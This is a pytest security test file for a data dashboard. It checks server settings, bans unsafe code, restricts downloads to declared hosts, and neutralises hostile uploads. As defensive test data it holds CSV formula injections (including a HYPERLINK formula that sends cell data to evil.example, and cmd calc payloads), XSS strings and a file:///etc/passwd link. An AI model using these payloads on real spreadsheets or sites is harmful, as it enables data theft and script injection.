"""Server settings, code rules and hostile uploads.

- ``.streamlit/config.toml`` keeps the server on this machine with Streamlit's protections on;
- no Python file renders HTML from data (``unsafe_allow_html``/``st.html``), unpickles or evaluates anything;
- every source downloads over https from the hosts it declares, including URLs its ``discover`` finds;
- formula, HTML and script payloads in an uploaded events file, and in data-derived labels, stay inert in the
  validator, the chart, and the CSV exports.
"""
from __future__ import annotations

import ast
import datetime as dt
import io
import re
import tomllib
from urllib.parse import urlparse

import pandas as pd
import pytest
import responses

from charts import export
from figures.core import Line, build_trend_figure
from loaders import registry
from loaders.__main__ import main as cli
from loaders.text import html_text
from tests import fault_samples as fs
from tests.conftest import ROOT
from wording.plain import markdown_literal

PY_FILES = [p for p in ROOT.rglob("*.py")
            if not any(part in (".venv", "tests", "node_modules", "__pycache__") or part.startswith(".")
                       for part in p.relative_to(ROOT).parts)]


# ---------------------------------------------------------------- server settings

@pytest.fixture(scope="module")
def config() -> dict:
    return tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text("utf-8"))


def test_server_binds_to_loopback_with_protections_on(config):
    server = config["server"]
    assert server["address"] == "127.0.0.1"  # Streamlit listens on every interface unless told
    assert server["enableXsrfProtection"] is True
    assert server["enableCORS"] is True
    assert server["allowedHosts"] and set(server["allowedHosts"]) <= {"localhost", "127.0.0.1", "::1"}
    assert 1 <= server["maxUploadSize"] <= 5  # MB; an events file is a few KB
    # Static serving is on only for the bundled map outlines and Plotly's Spanish locale (public files from the
    # plotly.js package, and the few lines that apply it in image exports): static/ holds nothing else.
    assert server.get("enableStaticServing", False) is True
    served = sorted(str(p.relative_to(ROOT / "static")) for p in (ROOT / "static").rglob("*") if p.is_file())
    assert served == ["locales/PROVENANCE.md", "locales/kaleido-locale.js", "locales/plotly-locale-es.js",
                      "maps/PROVENANCE.md", "maps/usa_110m.json", "maps/world_110m.json"]


def test_no_error_details_or_usage_statistics(config):
    assert config["client"]["showErrorDetails"] in ("none", False)
    assert config["browser"]["gatherUsageStats"] is False


# ---------------------------------------------------------------- code rules (AST, not grep: comments don't count)

def calls(tree):
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            f = node.func
            name = f.attr if isinstance(f, ast.Attribute) else f.id if isinstance(f, ast.Name) else ""
            base = f.value.id if isinstance(f, ast.Attribute) and isinstance(f.value, ast.Name) else ""
            yield node, name, base


@pytest.fixture(scope="module")
def trees():
    assert any(p.name == "dashboard.py" for p in PY_FILES) and any("loaders" in p.parts for p in PY_FILES)
    return {p: ast.parse(p.read_text("utf-8"), str(p)) for p in PY_FILES}


def test_no_html_rendering_of_any_text(trees):
    found = []
    for p, tree in trees.items():
        for node, name, base in calls(tree):
            for kw in node.keywords:
                if kw.arg in ("unsafe_allow_html", "unsafe_allow_javascript") and not (
                        isinstance(kw.value, ast.Constant) and kw.value.value is False):
                    found.append(f"{p.name}:{node.lineno} {kw.arg}")
            if name == "html" and base in ("st", "components"):
                found.append(f"{p.name}:{node.lineno} {base}.html")
    assert found == []


def test_no_pickle_eval_or_exec(trees):
    banned_modules = {"pickle", "cPickle", "dill", "marshal", "shelve", "joblib", "cloudpickle"}
    found = []
    for p, tree in trees.items():
        for node in ast.walk(tree):
            if isinstance(node, ast.Import):
                found += [f"{p.name}:{node.lineno} import {a.name}" for a in node.names
                          if a.name.split(".")[0] in banned_modules]
            elif isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] in banned_modules:
                found.append(f"{p.name}:{node.lineno} from {node.module}")
        for node, name, base in calls(tree):
            if isinstance(node.func, ast.Name) and name in ("eval", "exec", "compile", "__import__"):
                found.append(f"{p.name}:{node.lineno} {name}()")
            if name in ("read_pickle", "to_pickle", "load", "loads") and base in ("pd", "pickle", "yaml", "marshal"):
                found.append(f"{p.name}:{node.lineno} {base}.{name}")
            # st.cache_data(persist="disk") stores pickles on disk.
            if any(kw.arg == "persist" for kw in node.keywords):
                found.append(f"{p.name}:{node.lineno} persist=")
            if any(kw.arg == "allow_pickle" for kw in node.keywords):
                found.append(f"{p.name}:{node.lineno} allow_pickle=")
    assert found == []


def test_every_request_has_a_timeout(trees):
    """A request without a timeout can hang for ever (bandit B113)."""
    found = []
    for p, tree in trees.items():
        # A session is one of requests' only in a module that imports requests (the page's session state is
        # also called ``s``, and its ``s.get`` is a dict's).
        uses_requests = any(isinstance(n, (ast.Import, ast.ImportFrom)) and "requests" in (
            [a.name for a in n.names] if isinstance(n, ast.Import) else [n.module or ""]) for n in ast.walk(tree))
        for node, name, base in calls(tree):
            if name in ("get", "post", "head", "request") and (base == "requests" or (
                    base in ("session", "s") and uses_requests)) \
                    and not any(kw.arg == "timeout" for kw in node.keywords):
                found.append(f"{p.name}:{node.lineno} {base}.{name}")
    assert found == []


# ---------------------------------------------------------------- declared hosts, https only

@pytest.mark.parametrize("sid", sorted(registry.SOURCES))
def test_downloads_are_https_on_declared_hosts(sid):
    src = registry.get(sid)
    if "://" in src.landing_page:  # curated sources name a file in the project instead
        assert urlparse(src.landing_page).scheme == "https", src.landing_page
    if not fs.downloadable(src):
        assert not src.download_urls  # curated in the project or read from research copies: nothing to fetch
        return
    assert src.allowed_hosts, f"{sid} downloads but declares no allowed_hosts"
    for url in src.download_urls:
        u = urlparse(url)
        assert u.scheme == "https" and u.hostname in src.allowed_hosts, url


@pytest.mark.parametrize("sid", [s for s in sorted(registry.SOURCES) if fs.discovers(registry.get(s))])
@responses.activate
def test_discovered_links_never_leave_the_declared_hosts(sid, tmp_path, capsys):
    """A landing page (compromised, or just sloppy) links to http and to other hosts: nothing is fetched
    from anywhere but the source's declared hosts, over https."""
    src = registry.get(sid)
    got = fs.sample(sid)
    name = got[0] if got else "file.xlsx"
    host = src.allowed_hosts[0]
    links = [f"http://{host}/files/{name}", f"https://evil.example/files/{name}", f"//evil.example/{name}",
             f"https://{host}.evil.example/{name}", f"https://evil.example/{host}/{name}",
             f"javascript:fetch('https://evil.example/{name}')"]
    page = "<!DOCTYPE html><html><body>" + "".join(f'<a href="{u}">{name}</a>' for u in links) + "</body></html>"
    responses.get(re.compile(r".*"), body=page, content_type="text/html")
    rc = cli(["update", sid, "--data", str(tmp_path / "data"), "--raw", str(tmp_path / "raw")])
    err = capsys.readouterr().err
    assert rc == 1, err
    for call in responses.calls:
        u = urlparse(call.request.url)
        assert u.scheme == "https" and u.hostname in src.allowed_hosts, call.request.url


# ---------------------------------------------------------------- hostile text: uploads, labels, exports

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
            "\t=1+2", "\r=1+2"]
MARKUP = ["<script>alert(document.cookie)</script>", '<img src=x onerror="alert(1)">', "<b>bold</b> & <i>x</i>",
          '<a href="javascript:alert(1)">click</a>', "<iframe src=https://evil.example></iframe>"]


def events_module():
    return pytest.importorskip("loaders.events", reason="loaders/events.py has not landed on this branch")


def upload(rows: list[list[str]]) -> bytes:
    import csv
    out = io.StringIO()
    w = csv.writer(out, lineterminator="\n")
    w.writerow(["id", "date", "date_precision", "title", "category", "description", "source_name", "source_url"])
    w.writerows(rows)
    return out.getvalue().encode("utf-8")


def row(i, title="A title", description="", source_name="Agency", url="https://www.ice.gov/news"):
    return [f"u{i}", "2025-03-0" + str(1 + i % 9), "exact", title, "policy", description, source_name, url]


def test_uploaded_formulas_are_rejected_with_a_reason():
    ev = events_module()
    rows = [row(i, title=f) for i, f in enumerate(FORMULAS)]
    rows += [row(10 + i, description=f) for i, f in enumerate(FORMULAS)]
    acc, rej = ev.validate_events(upload(rows), "mine.csv", today=dt.date(2026, 1, 1))
    assert acc.empty and len(rej) >= len(rows)
    assert rej["reason"].str.len().gt(0).all()
    # Cells are stripped, so a leading tab still leaves the "=" to be caught; an unquoted CR splits the row
    # (as it would in a spreadsheet) and the pieces are rejected for their field count.
    assert rej["reason"].str.contains("formula").sum() >= 2 * (len(FORMULAS) - 1)


def test_uploaded_markup_is_kept_as_plain_text():
    ev = events_module()
    rows = [row(i, title=m, description=m, source_name=m) for i, m in enumerate(MARKUP)]
    acc, rej = ev.validate_events(upload(rows), "mine.csv", today=dt.date(2026, 1, 1))
    assert rej.empty and list(acc["title"]) == MARKUP  # not stripped, not altered: text is data


@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
                                 "vbscript:msgbox(1)", "/relative/link", "file:///etc/passwd",
                                 "https://evil.example/a b"])
def test_uploaded_links_must_be_http(url):
    ev = events_module()
    acc, rej = ev.validate_events(upload([row(1, url=url)]), "mine.csv", today=dt.date(2026, 1, 1))
    assert acc.empty and list(rej["field"]) == ["source_url"]


def test_upload_limits_and_encoding_errors_are_reported():
    from loaders.errors import ValidationError
    ev = events_module()
    with pytest.raises(ValidationError, match=r"mine\.csv.*limit is 1,000"):
        ev.validate_events(upload([row(i) for i in range(40)]), "mine.csv", max_bytes=1000)
    with pytest.raises(ValidationError, match=r"3 event rows; the limit is 2"):
        ev.validate_events(upload([row(i) for i in range(3)]), "mine.csv", max_rows=2)
    latin1 = upload([row(1, title="Caf\u00e9 raid")]).replace("Caf\u00e9".encode(), b"Caf\xe9")
    acc, rej = ev.validate_events(latin1, "mine.csv", today=dt.date(2026, 1, 1))
    assert acc.empty and "not UTF-8" in rej["reason"].iloc[0] and "0xe9" in rej["reason"].iloc[0]


def hostile_events() -> pd.DataFrame:
    n = len(MARKUP) + len(FORMULAS)
    texts = MARKUP + FORMULAS
    return pd.DataFrame({
        "id": [f"e{i}" for i in range(n)], "date": pd.date_range("2025-01-01", periods=n, freq="7D"),
        "date_precision": "exact", "title": texts, "category": "policy", "description": texts[::-1],
        "source_name": texts, "source_url": "https://www.ice.gov/", "origin": "upload",
    })


def test_event_hover_text_is_escaped():
    events_module()
    from figures.events import add_events_to_figure
    fig = add_events_to_figure(build_trend_figure([], title="t", subtitle="s", sources=[]), hostile_events())
    hover = " ".join(t for tr in fig.data for t in (tr.hovertext or []))
    assert "&lt;script&gt;" in hover and "&lt;img src=x" in hover
    for tag in ("<script", "<img", "<iframe", "<a ", "<i>"):
        assert tag not in hover.lower(), tag


def test_events_csv_neutralises_formulas():
    events_module()
    from figures.events import events_csv
    body = events_csv(hostile_events(), generated_on=dt.date(2026, 1, 1)).decode("utf-8")
    df = pd.read_csv(io.StringIO(body), comment="#", dtype=str, keep_default_na=False)
    for col in ("title", "description", "source_name"):
        for cell in df[col]:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (col, cell)
    assert "'=HYPERLINK" in body and "<script>" in body  # kept, but inert in a spreadsheet
    assert len(df) == len(hostile_events())  # no cell broke out into a row of its own


def test_export_csv_neutralises_formulas_in_text_only():
    df = pd.DataFrame({"key": FORMULAS + ["-CONROE", "plain"], "value": [-5.0] * (len(FORMULAS) + 2)})
    body = export.to_csv(df, sources=['=cmd|" /C calc"!A0', "TRAC"], title="+title").decode("utf-8")
    back = pd.read_csv(io.StringIO(body), comment="#", keep_default_na=False)
    assert len(back) == len(df), "a line break in a cell split a row"  # e.g. "\r=1+2" would start a new row
    assert all(k.startswith("'") for k in back["key"][:-1]) and back["key"].iloc[-1] == "plain"
    assert (back["value"] == -5).all()  # numbers keep their sign
    assert "# '=cmd" in body and "# '+title" in body


def test_trend_figure_escapes_data_derived_labels():
    x = pd.to_datetime(["2025-01-01", "2025-02-01"]).to_numpy()
    payload = '<img src=x onerror="alert(1)"> %{customdata}'
    fig = build_trend_figure([Line(payload, x, [1.0, 2.0], unit="<b>people</b>")], title=MARKUP[0],
                             subtitle=MARKUP[1], sources=[MARKUP[2]], notes=[MARKUP[3]])
    spec = fig.to_json()
    for tag in ("<img", "<script", "<iframe", "<a href", "<i>"):
        assert tag not in spec, tag
    tr = fig.data[0]
    assert tr.name.startswith("&lt;img") and "%{customdata}" not in tr.hovertemplate


def test_markdown_literal_shows_file_names_as_typed():
    """Uploaded file names go into st.error/st.success, which render Markdown."""
    name = "![x](https://tracker.example/p.png) [click](javascript:alert(1)) **b** :red[x] $x$.csv"
    out = markdown_literal(name)
    assert "![" not in out and "](" not in out and "**" not in out and ":red[" not in out
    assert re.sub(r"\\(.)", r"\1", out) == name


def test_one_csv_formula_neutraliser_and_one_text_escaper():
    """No module grows its own CSV-formula rule or HTML escaper again: there were two of each, with different
    rules (one left a bare CR that starts a new spreadsheet row; one wrote ``&quot;``, which Plotly shows as
    typed). CSV cells go through ``loaders.text.csv_cell``, HTML/SVG/Plotly text through
    ``loaders.text.html_text``, Markdown through ``charts.plain.markdown_literal``."""
    homes = {"loaders/text.py", "wording/plain.py"}
    copies = re.compile(r"""html\.escape\(|saxutils|quoteattr\(|["']&(?:lt|gt|amp|quot|#3[49]|#x27);["']|"""
                        r"""\(\s*["']=["']\s*,\s*["']\+["']|startswith\(\s*["'][=+@-]["']|"""
                        r"""def (?:_?esc|\w*escape\w*|\w*neutrali[sz]\w*|\w*markdown\w*|\w*csv_safe\w*)\(""")
    found = []
    for p in PY_FILES:
        rel = p.relative_to(ROOT).as_posix()
        if rel in homes or rel.startswith("tests/"):
            continue
        for n, line in enumerate(p.read_text("utf-8").splitlines(), 1):
            if copies.search(line):
                found.append(f"{rel}:{n}: {line.strip()}")
    assert found == [], "a second escaper or formula rule:\n" + "\n".join(found)
    # The one of each follows its rules.
    from loaders.text import csv_cell
    assert html_text('<b a="x">\'&') == "&lt;b a=&#34;x&#34;&gt;&#39;&amp;" and html_text(None) == ""
    assert csv_cell("\r=1") == "'\n=1" and csv_cell("-5") == "'-5" and csv_cell(-5) == -5
